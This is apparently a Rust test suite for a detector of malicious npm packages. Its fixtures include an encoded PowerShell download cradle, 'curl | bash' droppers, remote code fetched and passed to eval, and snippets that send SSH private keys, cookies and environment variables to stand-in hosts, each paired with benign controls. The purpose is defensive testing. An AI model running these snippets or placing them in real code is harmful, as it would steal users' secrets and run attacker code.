//! JavaScript where it stands outside of a module's plain text: in pages, command lines, manifests and what the host calls.

use crate::flows::{judged, paths};

fn package(text: &str) -> (String, Vec<String>) {
    judged(&[
        ("package.json", "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}"),
        ("index.js", text),
    ])
}

/// A program and the list of its arguments are one command line, and an encoded one is what it decodes to.
#[test]
fn arguments_apart_are_one_command() {
    // IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/n.ps1')
    let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADgAMAAvAG4ALgBwAHMAMQAnACkA";
    let texts = [
        format!("require('child_process').execFile('powershell.exe', ['-nop', '-ep', 'bypass', '-enc', '{encoded}']);"),
        format!("const cp = require('child_process');\nconst words = ['-nop'];\nwords.push('-ec', '{encoded}');\ncp.spawnSync('pwsh', words);"),
        "const p = require('child_process').spawn('powershell', ['-Command', '-']);\np.stdin.write(\"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/n.ps1')\");".to_owned(),
        "require('child_process').spawn('npx', ['-y', 'http://192.0.2.80/n.tgz']);".to_owned(),
    ];
    for text in texts {
        let (verdict, found) = package(&text);
        assert_eq!(verdict, "malicious", "{text}\n{found:?}");
        assert!(found.iter().any(|id| id == "dropper/unasked"), "{text}\n{found:?}");
    }
    for text in [
        "require('child_process').execFile('powershell.exe', ['-NoProfile', '-Command', '[console]::beep()']);",
        "require('child_process').spawn('npx', ['-y', 'tsc', '--build']);",
        "require('child_process').spawn('git', ['clone', 'https://code.example.invalid/a.git']);",
    ] {
        let (verdict, found) = package(text);
        assert_eq!(verdict, "benign", "{text}\n{found:?}");
    }
}

/// `-e` of the program that runs the code itself is code, whatever the program is called.
#[test]
fn the_program_itself_is_given_a_text() {
    let code = "`require('http').get('http://192.0.2.58/z', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => eval(s)); })`";
    for text in [
        format!("require('child_process').execFile(process.argv0, ['-e', {code}]);"),
        format!(
            "const job = require('child_process');\nReflect.apply(job['execFile'], job, [process.execPath, ['-e', {code}]]);"
        ),
        format!("const [node] = process.argv;\nrequire('child_process').spawn(node, ['--eval', {code}]);"),
    ] {
        let (verdict, found) = package(&text);
        assert_eq!(verdict, "malicious", "{text}\n{found:?}");
        assert!(found.iter().any(|id| id == "execution/downloaded"), "{text}\n{found:?}");
    }
}

/// What an object gives that is gone through by a method of its own.
#[test]
fn an_iterator_of_its_own_hands_values_on() {
    let wanted = "file.credential fs.readFileSync({}/.ssh/id_rsa) -> network.send fetch(body) proven";
    let read = "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')";
    for text in [
        format!(
            "class A {{ *[Symbol.iterator]() {{ yield {read}; }} send() {{ for (const k of this) fetch('https://a.example.invalid/x', {{ method: 'POST', body: k }}); }} }}\nnew A().send();\n"
        ),
        format!(
            "class A {{ async *[Symbol.asyncIterator]() {{ yield ['k', {read}]; }} }}\nasync function send() {{ for await (const [n, k] of new A()) fetch('https://a.example.invalid/x', {{ method: 'POST', body: k }}); }}\nsend();\n"
        ),
    ] {
        let paths = paths("index.js", &text);
        assert!(paths.contains(wanted), "{text}\n{paths}");
    }
}

/// A proxy in front of the environment is used by whoever reads the environment.
#[test]
fn a_trap_of_a_proxy_in_front_of_the_host_is_called() {
    let text = "const https = require('https');\nprocess.env = new Proxy(process.env, {\n  get(target, name) {\n    const value = Reflect.get(target, name);\n    https.request({ host: 'e.example.invalid', path: '/g?v=' + value }).end();\n    return value;\n  },\n});\n";
    let found = paths("index.js", text);
    assert!(found.contains("environment process.env -> network.send https.request(path)"), "{found}");
}

/// A base class is no maker of functions, however its name was found.
#[test]
fn what_a_function_inherits_from_compiles_nothing() {
    let text = "function up(o) { return Object.getPrototypeOf(o); }\nfunction callSuper(t, o, e) { return o = up(o), Reflect.construct(o, e); }\nexports.make = function make(message) { return callSuper(this, make, [message]); };\n";
    assert!(!paths("index.js", text).contains("code.execute"));
    let compiled =
        "const F = Object.getPrototypeOf(async function () {}).constructor;\nexports.run = (text) => F(text)();\n";
    assert!(paths("index.js", compiled).contains("code.execute"));
}

/// An address that stands on another is known.
#[test]
fn an_address_on_a_base_is_one_address() {
    let text = "const at = new URL('/v1/x', 'https://a.example.invalid/b/');\nfetch(at, { method: 'POST', body: process.env });\n";
    let (_, found) = package(text);
    assert!(found.iter().any(|id| id == "exfiltration/environment"), "{found:?}");
}

/// The scripts of pages and components are read where they stand.
#[test]
fn scripts_of_pages_are_code() {
    let page = "<!doctype html>\n<title>x</title>\n<script type=\"application/ld+json\">{\"a\": 1}</script>\n<script>\n  require('child_process').exec('curl -s http://192.0.2.90/b | bash');\n</script>\n";
    let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.html\"}";
    let (verdict, found) = judged(&[("package.json", manifest), ("index.html", page)]);
    assert_eq!(verdict, "malicious", "{found:?}");
    let (verdict, _) = judged(&[
        ("package.json", manifest),
        ("index.html", &page.replace("<script>", "<script type=\"text/template\">")),
    ]);
    assert_ne!(verdict, "malicious");
    let component = "<template>\n  <p v-if=\"a < b\">x</p>\n</template>\n<script setup lang=\"ts\">\nconst key: string = document.cookie;\nfetch('https://a.example.invalid/x', { method: 'POST', body: key });\n</script>\n";
    let found = paths("Box.vue", component);
    assert!(found.contains("file.credential document.cookie -> network.send fetch(body)"), "{found}");
    assert!(found.contains("Box.vue:5"), "{found}");
}

/// A program that is also exported by a name of its own runs when somebody runs it.
#[test]
fn a_program_among_the_exports_is_not_imported() {
    let program = "require('child_process').exec('curl -s http://192.0.2.90/b | bash');\n";
    let with = |exports: &str| {
        let manifest =
            format!("{{\"name\": \"sample\", \"version\": \"1.0.0\", \"bin\": \"./cli.js\", \"exports\": {exports}}}");
        let (_, found) =
            judged(&[("package.json", &manifest), ("cli.js", program), ("index.js", "module.exports = 1;\n")]);
        found.iter().any(|id| id == "dropper/unasked")
    };
    assert!(!with("{\".\": \"./index.js\", \"./cli\": \"./cli.js\"}"));
    assert!(with("{\".\": \"./cli.js\"}"));
    assert!(with("\"./cli.js\""));
}
